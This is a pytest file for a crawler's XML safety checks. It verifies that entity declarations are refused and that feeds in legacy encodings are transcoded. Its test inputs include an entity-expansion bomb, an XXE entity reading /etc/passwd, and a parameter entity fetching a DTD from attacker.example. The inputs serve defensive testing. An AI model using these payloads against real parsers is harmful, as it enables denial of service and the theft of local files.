"""crawler.xmlsafety: entity declarations refused wherever they hide; legacy
multi-byte encodings that expat cannot read are transcoded, not crashed on."""

from __future__ import annotations

from xml.etree.ElementTree import ParseError

import pytest

from crawler.xmlsafety import UnsafeXml, check_xml_safety, parse_xml

BOMB = b'<!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><rss>&b;</rss>'

# body -> refused by check_xml_safety?
SAFETY = [
    (b'<rss version="2.0"><channel/></rss>', False),
    (BOMB, True),
    (b"<!-- " + b"x" * 70_000 + b" -->" + BOMB, True),  # past any fixed-size head
    (("<?xml version='1.0' encoding='utf-16'?>" + BOMB.decode()).encode("utf-16"), True),  # NULs between letters
    (b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss>&x;</rss>', True),
    (b"<rss><![CDATA[ the text <!ENTITY is quoted here ]]></rss>", False),  # not a declaration
    (b"<rss><!ENTITY broken", False),  # broken XML is left to the feed parser
    (b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><rss/>', True),  # parameter entity
    (("<?xml version='1.0' encoding='utf-32'?>" + BOMB.decode()).encode("utf-32"), True),
    (b'<!DOCTYPE rss><rss version="2.0"><channel/></rss>', False),  # a DOCTYPE declaring nothing
]


@pytest.mark.parametrize(("body", "refused"), SAFETY)
def test_check_xml_safety(body, refused):
    if refused:
        with pytest.raises(UnsafeXml):
            check_xml_safety(body)
    else:
        check_xml_safety(body)


# body -> root tag and text, or the exception parse_xml raises
PARSE = [
    ('<?xml version="1.0" encoding="gb2312"?><urlset>中文</urlset>'.encode("gb2312"), ("urlset", "中文")),
    ('<?xml version="1.0" encoding="big5"?><urlset>中文</urlset>'.encode("big5"), ("urlset", "中文")),
    ('<?xml version="1.0" encoding="utf-8"?><urlset>中文</urlset>'.encode(), ("urlset", "中文")),
    (b'<?xml version="1.0" encoding="bogus"?><a/>', ParseError),
    (b'<?xml version="1.0" encoding="base64"?><a/>', ParseError),
    (b'<?xml version="1.0" encoding="gbk"?>' + BOMB, UnsafeXml),  # transcoded, still refused
    (b"<a>\x00</a>", ParseError),
    ('<?xml version="1.0" encoding="utf-32"?><urlset>中文</urlset>'.encode("utf-32"), ("urlset", "中文")),
    ('<urlset>中文</urlset>'.encode("utf-32"), ("urlset", "中文")),  # a BOM, no declaration
]


@pytest.mark.parametrize(("body", "expected"), PARSE)
def test_parse_xml(body, expected):
    if isinstance(expected, type):
        with pytest.raises(expected):
            parse_xml(body)
    else:
        root = parse_xml(body)
        assert (root.tag, root.text) == expected
